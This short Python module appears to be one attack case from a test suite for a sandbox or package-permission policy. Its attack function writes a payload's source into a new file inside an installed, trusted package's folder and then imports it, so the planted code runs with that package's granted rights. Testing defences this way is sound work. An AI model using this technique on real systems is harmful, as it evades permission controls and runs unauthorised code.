"""A file is planted in a granted package's folder."""
CATEGORY = "forging"
REACH = "net"
POLICIES = "baseline"

from . import payload


def attack():
    import good
    path = good.__path__[0] + "/extra.py"
    with open(path, "w") as file:
        file.write(payload.SOURCE)
    import good.extra
